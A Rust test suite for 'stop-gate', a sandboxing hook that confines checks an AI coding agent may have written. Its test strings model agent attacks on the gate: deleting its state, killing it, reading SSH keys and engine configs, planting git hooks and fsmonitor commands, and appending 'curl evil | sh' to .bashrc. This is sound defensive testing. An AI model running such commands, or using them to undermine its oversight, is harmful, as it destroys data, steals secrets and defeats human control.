//! SPEC §9, confined checks: the command of `stop-gate --run` is project code the agent may
//! have written. Each test plays that agent: its check attacks what the gate relies on, and the
//! attack fails inside the confinement while the loop still ends only on a declaration.

use std::io::Read;
use std::path::Path;

use super::DECLARED;
use crate::support::*;

/// A check that runs `attack`, then fails, so the gate shows what it printed.
fn attacked(attack: &str) -> String {
    format!("{attack}\nexit 1")
}

/// What the check printed: the reason after its first line (which quotes the command).
fn printed(reason: &str) -> &str {
    reason.split_once('\n').map_or("", |(_, rest)| rest)
}

/// The loop of `p`'s session s1 is running, at `iteration`.
fn assert_running_at(p: &Project, iteration: u64) {
    let state = p.loop_state("s1");
    assert_eq!(state["status"], "running", "{state}");
    assert_eq!(state["iteration"], iteration, "{state}");
}

#[test]
fn a_check_that_deletes_the_state_home_leaves_the_loop_running() {
    let p = Project::git();
    p.start_ok("s1", 5, "Fix it.");
    let home = state_home().display().to_string();
    // Declared, so the check runs; it deletes what it can and fails.
    let stop = p.stop(
        &[
            "--run",
            &attacked(&format!("rm -rf '{home}'/* '{home}'/.[!.]*")),
        ],
        "s1",
        Some(DECLARED),
    );
    assert!(stop.blocked());
    assert!(p.protected().join("sessions").is_dir());
    assert_running_at(&p, 2);
    // The loop still ends, and only on the declaration.
    let stop = p.stop(&["--run", "true"], "s1", Some(DECLARED));
    stop.assert_allowed();
    assert_eq!(p.loop_state("s1")["status"], "passed");
}

#[test]
fn a_check_cannot_trust_its_own_key_for_the_project() {
    let p = Project::git();
    // Made by a first stop, so the agent knows where it is.
    p.stop_s1(&["--run", "true"]);
    let keys = p.protected().join("trusted-keys");
    let attack = format!(
        "mkdir -p '{k}' && echo AGENTKEY > '{k}/agent.pub'; {mw} trust /dev/null",
        k = keys.display(),
        mw = bin_dir().join("marker-writer").display()
    );
    let stop = p.stop_s1(&["--run", &attacked(&attack)]);
    assert!(stop.blocked());
    assert!(!keys.join("agent.pub").exists());
    let reason = stop.reason();
    assert!(
        reason.contains("Read-only file system") || reason.contains("Permission denied"),
        "{reason}"
    );
}

#[test]
fn a_check_cannot_kill_the_gate_that_runs_it() {
    let p = Project::git();
    p.start_ok("s1", 5, "Fix it.");
    let attack = "kill -KILL $PPID; pkill -KILL -x stop-gate; kill -KILL -1; sleep 1";
    let stop = p.stop(&["--run", &attacked(attack)], "s1", Some(DECLARED));
    // The gate lived to answer: the stop is blocked, not let through by a killed hook.
    assert!(stop.blocked(), "the gate did not answer");
    assert_running_at(&p, 2);
}

#[test]
fn a_check_sees_only_its_own_processes() {
    let p = Project::git();
    let stop = p.stop_s1(&["--run", &attacked("ps -e -o comm= | sort | tr '\\n' ' '")]);
    let reason = stop.reason();
    let seen = printed(&reason);
    assert!(seen.contains("ps"), "{reason}");
    assert!(!seen.contains("stop-gate"), "{reason}");
    assert!(!seen.contains("cargo"), "{reason}");
}

#[test]
fn a_check_cannot_rewrite_the_gate_binary() {
    let p = Project::git();
    let bin = tempfile::tempdir().unwrap();
    let gate = bin.path().join("stop-gate");
    std::fs::copy(bin_dir().join("stop-gate"), &gate).unwrap();
    let before = std::fs::read(&gate).unwrap();
    let attack = format!(
        "cp /bin/true '{g}.new' && mv -f '{g}.new' '{g}'; printf '#!/bin/sh\\n' > '{g}'",
        g = gate.display()
    );
    let mut cmd = std::process::Command::new(&gate);
    isolated(&mut cmd)
        .args(["--run", &attacked(&attack)])
        .current_dir(p.path());
    let output = output_with_stdin(cmd, p.payload("s1", Some("x")).to_string().as_bytes());
    assert!(String::from_utf8_lossy(&output.stdout).contains("\"block\""));
    assert_eq!(
        std::fs::read(&gate).unwrap(),
        before,
        "the gate was rewritten"
    );
}

#[test]
fn a_check_cannot_read_the_users_keys_or_the_engines_homes() {
    let p = Project::git();
    let home = tempfile::tempdir().unwrap();
    for (path, text) in [
        (".ssh/id_ed25519", "SSH-SECRET"),
        (".claude/settings.json", "CLAUDE-SETTINGS"),
        (".claude.json", "CLAUDE-JSON"),
        (".codex/config.toml", "CODEX-CONFIG"),
    ] {
        let file = home.path().join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, text).unwrap();
    }
    let key = home.path().join("signing.key");
    std::fs::write(&key, "SIGNING-KEY").unwrap();
    let stop = p.stop_env(
        &[
            "--run",
            &attacked(
                "cat ~/.ssh/id_ed25519 ~/.claude/settings.json ~/.claude.json ~/.codex/config.toml; \
                 env | grep -c '^VIGIL_'; echo \"key=$VIGIL_SIGN_KEY\"",
            ),
        ],
        &[("HOME", home.path().as_os_str()), ("VIGIL_SIGN_KEY", key.as_os_str())],
    );
    assert!(stop.blocked());
    let said = stop.reason();
    for secret in [
        "SSH-SECRET",
        "CLAUDE-SETTINGS",
        "CLAUDE-JSON",
        "CODEX-CONFIG",
    ] {
        assert!(!said.contains(secret), "{secret} was read: {said}");
    }
    assert!(
        said.contains("key=\n0") || said.contains("0\nkey="),
        "{said}"
    );
}

#[test]
fn a_check_cannot_plant_git_hooks_or_engine_files_in_the_project() {
    let p = Project::git();
    std::fs::create_dir_all(p.path().join(".claude")).unwrap();
    p.write(".claude/settings.json", "{}\n");
    let attack = "echo 'rm -rf ~' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
        mkdir -p .claude/agents && echo '---' > .claude/agents/helper.md; \
        echo '{}' > .claude/settings.json; echo '{\"mcpServers\":{}}' > .mcp.json; \
        mkdir -p .codex && echo x > .codex/hooks.json; echo '[core]' >> .git/config; \
        mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo written > ok.txt";
    let config_before = std::fs::read(p.path().join(".git/config")).unwrap();
    let stop = p.stop_s1(&["--run", &attacked(attack)]);
    assert!(stop.blocked());
    let root = p.path();
    // What the project's own code may write, it writes.
    assert_eq!(
        std::fs::read_to_string(root.join("ok.txt")).unwrap(),
        "written\n"
    );
    assert!(!root.join(".git/hooks/pre-commit").exists());
    assert!(!root.join(".claude/agents").exists());
    assert_eq!(
        std::fs::read_to_string(root.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert_eq!(
        std::fs::read(root.join(".git/config")).unwrap(),
        config_before
    );
    // The stand-ins for what was not there are gone with the check.
    for gone in [".mcp.json", ".codex", ".vscode", ".idea"] {
        assert!(
            std::fs::symlink_metadata(root.join(gone)).is_err(),
            "{gone} was left behind"
        );
    }
}

#[test]
fn a_check_cannot_reach_the_users_session_sockets() {
    let p = Project::git();
    let runtime = tempfile::tempdir().unwrap();
    let bus = runtime.path().join("bus");
    let bus_listener = std::os::unix::net::UnixListener::bind(&bus).unwrap();
    let docker = std::path::PathBuf::from(format!("/run/vigil-test-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&docker);
    let docker_listener = std::os::unix::net::UnixListener::bind(&docker).unwrap();
    for listener in [&bus_listener, &docker_listener] {
        listener.set_nonblocking(true).unwrap();
    }
    let connect = |path: &Path| {
        format!(
            "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); print('CONN' + 'ECTED')\"",
            path.display()
        )
    };
    let attack = format!(
        "{}; {}; systemd-run --user true; echo \"bus=$DBUS_SESSION_BUS_ADDRESS\"",
        connect(&bus),
        connect(&docker)
    );
    let address = format!("unix:path={}", bus.display());
    let stop = p.stop_env(
        &["--run", &attacked(&attack)],
        &[
            ("XDG_RUNTIME_DIR", runtime.path().as_os_str()),
            ("DBUS_SESSION_BUS_ADDRESS", address.as_ref()),
        ],
    );
    let _ = std::fs::remove_file(&docker);
    assert!(stop.blocked());
    let reason = stop.reason();
    let seen = printed(&reason);
    assert!(!seen.contains("CONNECTED"), "{reason}");
    assert_contains!(seen, "bus=", "{reason}");
    assert_lacks!(seen, "bus=unix", "{reason}");
    assert!(bus_listener.accept().is_err() && docker_listener.accept().is_err());
}

#[test]
fn a_check_has_no_network_unless_asked() {
    let p = Project::git();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let attack = format!(
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', {port}), 2); s.sendall(b'HELLO')\" && echo CONN''ECTED"
    );
    let stop = p.stop_s1(&["--run", &attacked(&attack)]);
    assert_lacks!(printed(&stop.reason()), "CONNECTED", "{}", stop.reason());
    // With --check-network it may.
    let asked = std::thread::spawn(move || {
        let (mut peer, _) = listener.accept().unwrap();
        let mut got = String::new();
        peer.read_to_string(&mut got).unwrap();
        got
    });
    let stop = p.stop_s1(&["--run", &attacked(&attack), "--check-network"]);
    assert_contains!(printed(&stop.reason()), "CONNECTED", "{}", stop.reason());
    assert_eq!(asked.join().unwrap(), "HELLO");
}

#[test]
fn a_check_writes_the_project_a_private_tmp_and_the_directories_named() {
    let p = Project::git();
    let cache = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let attack = format!(
        "echo built > target.txt && echo t > \"$TMPDIR/t\" && echo c > '{c}/c' && echo TMPDIR=$TMPDIR; echo o > '{o}/o'",
        c = cache.path().display(),
        o = outside.path().display()
    );
    let stop = p.stop_s1(&[
        "--run",
        &attacked(&attack),
        "--check-write",
        cache.path().to_str().unwrap(),
    ]);
    assert!(stop.reason().contains("TMPDIR=/tmp"), "{}", stop.reason());
    assert!(p.path().join("target.txt").exists());
    assert!(cache.path().join("c").exists());
    assert!(!outside.path().join("o").exists());
}

#[test]
fn without_bubblewrap_the_check_runs_unconfined_and_says_so_every_time() {
    let p = Project::git();
    for _ in 0..2 {
        let stop = p.stop_env(
            &["--run", "true"],
            &[("VIGIL_TEST_BWRAP", "/nonexistent/bwrap".as_ref())],
        );
        stop.assert_allowed();
        let message = stop.system_message();
        assert_starts_with!(
            message,
            "stop-gate: the check `true` ran unconfined, with your rights"
        );
        assert_contains!(message, "bubblewrap");
    }
}

#[test]
fn under_protect_a_check_that_cannot_be_confined_is_not_run() {
    let p = Project::git();
    p.write(
        ".claude/settings.local.json",
        r#"{"sandbox": {"enabled": true}}"#,
    );
    let stop = p.stop_env(
        &["--run", "touch ran.txt"],
        &[("VIGIL_TEST_BWRAP", "/nonexistent/bwrap".as_ref())],
    );
    let reason = stop
        .assert_blocked_starting("stop-gate: `touch ran.txt` was not run: it cannot be confined");
    assert_contains!(reason, "install the package bubblewrap");
    assert!(!p.path().join("ran.txt").exists());
}

/// Issue 43: Codex's sandbox is no Claude Code setting, so `--codex --protect` used to let a
/// check run unconfined where bubblewrap cannot make a sandbox. What says `--protect` on either
/// engine is the install record a human's install left in the protected state.
#[test]
fn under_codex_protect_a_check_that_cannot_be_confined_is_not_run() {
    let p = Project::builder().git().home().build();
    let codex_home = p.home().join("codex");
    std::fs::create_dir_all(&codex_home).unwrap();
    write_codex_config_trusting(&codex_home.join("config.toml"), "", p.path());
    let settings = p.path().join(".codex/hooks.json");
    let bin = bin_dir();
    ok(settings_merge()
        .env("HOME", p.home())
        .env("CODEX_HOME", &codex_home)
        .args([
            "install",
            "--settings",
            settings.to_str().unwrap(),
            "--codex",
            "--protect",
        ])
        .args(["--bin-dir", bin.to_str().unwrap(), "--no-run"])
        .current_dir(p.path())
        .output()
        .unwrap());
    let stop = p.stop_env(
        &["--run", "touch ran.txt"],
        &[
            ("VIGIL_TEST_BWRAP", "/nonexistent/bwrap".as_ref()),
            ("CODEX_HOME", codex_home.as_os_str()),
        ],
    );
    let reason = stop
        .assert_blocked_starting("stop-gate: `touch ran.txt` was not run: it cannot be confined");
    assert_contains!(reason, "--protect");
    assert!(!p.path().join("ran.txt").exists());
}

#[test]
fn a_project_that_breaks_the_sandbox_is_denied_never_run_unconfined() {
    let p = Project::git();
    std::os::unix::fs::symlink("nowhere/servers.json", p.path().join(".mcp.json")).unwrap();
    let stop = p.stop_s1(&["--run", "touch ran.txt"]);
    stop.assert_blocked_saying("cannot be confined");
    assert_contains!(stop.reason(), ".mcp.json");
    assert_contains!(stop.reason(), "fix that in the project");
    assert_lacks!(stop.reason(), "--protect");
    assert!(stop.system_message().is_empty() || !stop.system_message().contains("unconfined"));
    assert!(!p.path().join("ran.txt").exists());
    assert!(!p.path().join("nowhere").exists());
}

/// The toolchains a check runs work inside the confinement, offline, with read-only caches:
/// `cargo test` on a small crate, `npm test` (node's runner), and `pytest`.
#[test]
fn real_toolchains_pass_and_fail_inside_the_confinement() {
    let p = Project::git();
    let root = p.path();
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(
        root.join("Cargo.toml"),
        "[package]\nname = \"small\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n",
    )
    .unwrap();
    std::fs::write(
        root.join("src/lib.rs"),
        "pub fn add(a: i32, b: i32) -> i32 { a + b }\n#[test]\nfn adds() { assert_eq!(add(1, 1), 2); }\n",
    )
    .unwrap();
    std::fs::write(
        root.join("package.json"),
        r#"{"name":"small","version":"1.0.0","scripts":{"test":"node --test"}}"#,
    )
    .unwrap();
    std::fs::write(
        root.join("add.test.js"),
        "const test = require('node:test');\nconst assert = require('node:assert');\ntest('adds', () => assert.strictEqual(1 + 1, 2));\n",
    )
    .unwrap();
    std::fs::write(
        root.join("test_add.py"),
        "def test_adds():\n    assert 1 + 1 == 2\n",
    )
    .unwrap();
    let mut checks = vec!["cargo test --offline -q", "npm test --silent"];
    let has_pytest = std::process::Command::new("python3")
        .args(["-m", "pytest", "--version"])
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        has_pytest || std::env::var_os("CI").is_none(),
        "CI installs pytest for this test"
    );
    if has_pytest {
        checks.push("python3 -m pytest -q -p no:cacheprovider test_add.py");
    }
    for check in checks {
        let stop = p.stop_s1(&["--run", check, "--timeout", "300"]);
        assert!(!stop.blocked(), "{check}: {}", stop.reason());
        assert!(
            stop.system_message().is_empty(),
            "{check}: {}",
            stop.system_message()
        );
    }
    // And a failing test blocks, inside it too.
    std::fs::write(
        root.join("src/lib.rs"),
        "pub fn add(a: i32, b: i32) -> i32 { a - b }\n#[test]\nfn adds() { assert_eq!(add(1, 1), 2); }\n",
    )
    .unwrap();
    let stop = p.stop_s1(&["--run", "cargo test --offline -q", "--timeout", "300"]);
    assert!(stop.blocked());
    assert!(stop.reason().contains("adds"), "{}", stop.reason());
}

/// Git reads config and hooks from more places than `.git/config` and `.git/hooks`: a
/// `commondir` file, a renamed `.git`, a worktree's `.git` file. A check writes none of them,
/// so the user's next `git status` runs nothing of the agent's.
#[test]
fn a_check_cannot_redirect_git_to_a_config_of_its_own() {
    let p = Project::git();
    let root = p.path();
    let config = std::fs::read(root.join(".git/config")).unwrap();
    let planted = "printf '[core]\\n\\tfsmonitor = \"touch PWNED\"\\n'";
    for (n, attack) in [
        format!("mv .git .git-old && mkdir .git && {planted} > .git/config"),
        format!(
            "mkdir -p .cache/g && {planted} > .cache/g/config && echo ../.cache/g > .git/commondir"
        ),
        format!("mkdir -p .git/modules/sub/hooks && {planted} > .git/modules/sub/config"),
        format!(
            "rm -rf .git && git init -q --bare .cache/h && {planted} >> .cache/h/config && echo 'gitdir: .cache/h' > .git"
        ),
    ]
    .iter()
    .enumerate()
    {
        // A session each: the block budget counts per session.
        let stop = p.stop(&["--run", &attacked(attack)], &format!("s{n}"), Some("x"));
        assert!(stop.blocked(), "{attack}");
        assert!(root.join(".git").is_dir(), "{attack}");
        assert_eq!(
            std::fs::read(root.join(".git/config")).unwrap(),
            config,
            "{attack}"
        );
        assert!(!root.join(".git/commondir").exists(), "{attack}");
        assert!(!root.join(".git/modules").exists(), "{attack}");
        assert!(!root.join(".git-old").exists(), "{attack}");
    }
    git(root, &["status", "--porcelain"]);
    assert!(!root.join("PWNED").exists());
}

/// A worktree's `.git` is a file naming its git directory in the main repository, here under
/// `/tmp`, which the check's private `/tmp` would hide: the check still runs git, and cannot
/// point the file elsewhere.
#[test]
fn in_a_worktree_the_check_runs_git_and_cannot_repoint_it() {
    let p = Project::git();
    let worktree = tempfile::tempdir().unwrap();
    let tree = worktree.path().join("wt");
    git(p.path(), &["worktree", "add", "-q", tree.to_str().unwrap()]);
    let pointer = std::fs::read(tree.join(".git")).unwrap();
    let payload = p.payload("s1", Some("x"));
    let mut payload = payload;
    payload["cwd"] = serde_json::json!(tree);
    let output = stop_gate()
        .args([
            "--run",
            &attacked("git status --porcelain >/dev/null && echo GIT-WORKS; echo 'gitdir: /elsewhere' > .git"),
        ])
        .current_dir(&tree)
        .write_stdin(payload.to_string())
        .output()
        .unwrap();
    let said: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let seen = printed(said["reason"].as_str().unwrap()).to_string();
    assert!(seen.contains("GIT-WORKS"), "{said}");
    assert_eq!(std::fs::read(tree.join(".git")).unwrap(), pointer);
}

/// A read-only entry that is a symlink: a mount covers where it leads, never the link, which
/// the check could replace with a directory of its own. Such a project is not run, and says why.
#[test]
fn a_read_only_entry_that_is_a_symlink_is_not_run_and_says_why() {
    let p = Project::git();
    std::fs::create_dir_all(p.path().join("config/claude")).unwrap();
    std::os::unix::fs::symlink("config/claude", p.path().join(".claude")).unwrap();
    let stop = p.stop_s1(&[
        "--run",
        "rm .claude && mkdir .claude && touch .claude/settings.json",
    ]);
    stop.assert_blocked_saying("cannot be confined");
    assert_contains!(stop.reason(), ".claude is a symlink");
    assert!(is_symlink(&p.path().join(".claude")));
}

/// A project reached through a symlink (the engine's cwd spelled through a link) is checked
/// where it really is.
#[test]
fn a_project_reached_through_a_symlink_runs_its_check() {
    let p = Project::git();
    let links = tempfile::tempdir().unwrap();
    let link = links.path().join("proj");
    std::os::unix::fs::symlink(p.path(), &link).unwrap();
    let mut payload = p.payload("s1", Some("x"));
    payload["cwd"] = serde_json::json!(link);
    let output = stop_gate()
        .args(["--run", "test -f lib.rs"])
        .current_dir(&link)
        .write_stdin(payload.to_string())
        .output()
        .unwrap();
    assert_silent(&output);
}

/// The signing key the gate's environment names, and a descriptor the engine left open, never
/// reach the check.
#[test]
fn the_gates_signing_key_and_inherited_descriptors_stay_out_of_the_check() {
    let p = Project::git();
    let keys = tempfile::tempdir_in("/var/tmp").unwrap();
    let key = keys.path().join("vigil-marker.key");
    std::fs::write(&key, "SIGNING-KEY").unwrap();
    let gate = bin_dir().join("stop-gate");
    let script = format!(
        "exec 7</dev/null; exec '{}' --run \"cat '{}'; ls /proc/self/fd | tr '\\n' ' '; echo; exit 1\"",
        gate.display(),
        key.display()
    );
    let mut cmd = std::process::Command::new("sh");
    isolated(&mut cmd)
        .args(["-c", &script])
        .env("VIGIL_SIGN_KEY", &key)
        .current_dir(p.path());
    let output = output_with_stdin(cmd, p.payload("s1", Some("x")).to_string().as_bytes());
    let said: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let seen = printed(said["reason"].as_str().unwrap()).to_string();
    assert!(!seen.contains("SIGNING-KEY"), "{seen}");
    let fds = seen.lines().last().unwrap_or_default().to_string();
    assert!(!fds.split_whitespace().any(|fd| fd == "7"), "{seen}");
}

/// The empty stand-ins a check gets for read-only entries that are not there (so it cannot
/// make them) are listed in the protected state while it runs: a gate killed outright leaves
/// them, and the next check removes them, and only them.
#[test]
fn stand_ins_a_killed_gate_left_are_removed_by_the_next_check() {
    let p = Project::git();
    let root = p.path();
    std::fs::create_dir(root.join(".idea")).unwrap();
    let mut gate = p.stop_in_background(&["--run", "sleep 30.202"]);
    assert!(soon_running_with_arg("30.202"), "the check never started");
    gate.kill().unwrap();
    let _ = gate.wait();
    assert!(
        root.join(".mcp.json").exists() && root.join(".claude").is_dir(),
        "left behind"
    );
    let stop = p.stop(&["--run", "true"], "s2", Some("x"));
    stop.assert_allowed();
    for gone in [".mcp.json", ".claude", ".codex", ".vscode"] {
        assert!(
            std::fs::symlink_metadata(root.join(gone)).is_err(),
            "{gone} stayed"
        );
    }
    assert!(
        root.join(".idea").is_dir(),
        "the project's own empty directory stays"
    );
}

/// A project that is the user's home (Claude Code started in `~`): the check writes the
/// project, but not the shell's start-up files in it, nor the hidden set.
#[test]
fn where_the_project_is_the_home_the_check_writes_no_start_up_file() {
    let p = Project::git();
    p.write(".bashrc", "# mine\n");
    let stop = p.stop_env(
        &[
            "--run",
            &attacked("echo 'curl evil | sh' >> .bashrc; echo ok > notes.txt"),
        ],
        &[("HOME", p.path().as_os_str())],
    );
    assert!(stop.blocked());
    assert_eq!(p.read(".bashrc"), "# mine\n");
    assert!(p.path().join("notes.txt").exists());
}

/// A worktree's `.git` file is the agent's to write, and the git directory it names is bound
/// into the check read-only. Pointed into the hidden set (below `~/.ssh`), it must reveal
/// nothing there; pointed at a FIFO, it must not hold the gate.
#[test]
fn a_git_file_pointing_into_the_hidden_set_reveals_nothing_and_a_fifo_holds_no_gate() {
    let p = Project::new();
    let home = tempfile::tempdir_in("/var/tmp").unwrap();
    let keys = home.path().join(".ssh/keys");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(keys.join("id_ed25519"), "SSH-SECRET").unwrap();
    p.write(".git", format!("gitdir: {}\n", keys.display()));
    let stop = p.stop_env(
        &[
            "--run",
            &attacked(&format!("cat '{}/id_ed25519'", keys.display())),
        ],
        &[("HOME", home.path().as_os_str())],
    );
    assert!(stop.blocked());
    assert_lacks!(printed(&stop.reason()), "SSH-SECRET", "{}", stop.reason());
    // A git directory inside the project whose commondir is a FIFO.
    let gitdir = p.path().join("gd");
    std::fs::create_dir(&gitdir).unwrap();
    let fifo = std::ffi::CString::new(gitdir.join("commondir").to_str().unwrap()).unwrap();
    // SAFETY: mkfifo(3) reads the NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    p.write(".git", "gitdir: gd\n");
    let started = std::time::Instant::now();
    let stop = p.stop(&["--run", "true", "--deadline", "60"], "s2", Some("x"));
    assert_within(
        started,
        std::time::Duration::from_secs(10),
        "the gate waited on the FIFO",
    );
    stop.assert_allowed();
}
